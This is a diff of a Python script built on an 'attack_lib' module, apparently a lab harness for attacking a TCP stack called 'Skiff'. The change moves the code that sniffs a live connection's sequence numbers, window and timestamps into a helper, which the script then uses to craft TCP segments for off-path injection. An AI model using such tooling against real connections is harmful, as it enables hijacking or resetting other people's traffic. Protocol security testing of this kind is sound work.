@@ -26,7 +26,7 @@ import struct
 import sys
 import time
 
-from attack_lib import (TCP_ACK, TCP_PSH, TCP_RST, TCP_SYN, Link, eth, ipv4, out, parse_opts, parse_tcp_frame, tcp,
+from attack_lib import (TCP_ACK, TCP_PSH, TCP_RST, TCP_SYN, Link, eth, ipv4, learn_conn, out, parse_tcp_frame, tcp,
                         tcp_opts)
 
 
@@ -55,34 +55,11 @@ def main(ifname, smac, pmac, sip, pip, port, rate, statedir):
     exchange(1 << 20)
     time.sleep(0.3)   # delayed ACKs go out; the connection is idle
     # What the wire says about the connection.
-    R = S = None
-    wscale, win, k_tsval, s_tsval = 0, 65535, 0, 0
-    for f in link.recv_all(0.1, outgoing=True) + link.recv_all(0.1, outgoing=True):
-        p = parse_tcp_frame(f)
-        if not p:
-            continue
-        src, dst, sp, dp, seq, ack, flags, w, data, opts = p
-        o = parse_opts(opts)
-        if src == pip and sp == kport and dp == port:        # kernel -> Skiff
-            end = (seq + len(data) + (1 if flags & TCP_SYN else 0)) & 0xFFFFFFFF
-            if R is None or ((end - R) & 0xFFFFFFFF) < 0x80000000:
-                R = end
-            if "ts" in o:
-                k_tsval = o["ts"][0]
-        elif src == sip and sp == port and dp == kport:      # Skiff -> kernel
-            end = (seq + len(data) + (1 if flags & TCP_SYN else 0)) & 0xFFFFFFFF
-            if S is None or ((end - S) & 0xFFFFFFFF) < 0x80000000:
-                S = end
-            if flags & TCP_SYN:
-                wscale = o.get("wscale", 0)
-            else:
-                win = w << wscale
-            if "ts" in o:
-                s_tsval = o["ts"][0]
-    if R is None or S is None:
+    c = learn_conn(link, pip, kport, sip, port)
+    if c is None:
         out("could not learn the connection's sequence numbers from the wire")
         return 1
-    W = max(2, min(win, 1 << 20))
+    R, S, W, wscale, k_tsval, s_tsval = c["R"], c["S"], c["W"], c["wscale"], c["k_tsval"], c["s_tsval"]
     out("CONN kport=%d R=%d S=%d W=%d wscale=%d" % (kport, R, S, W, wscale))
     rnd = random.Random(0xB11D)
     ts = tcp_opts(ts=(k_tsval, s_tsval))
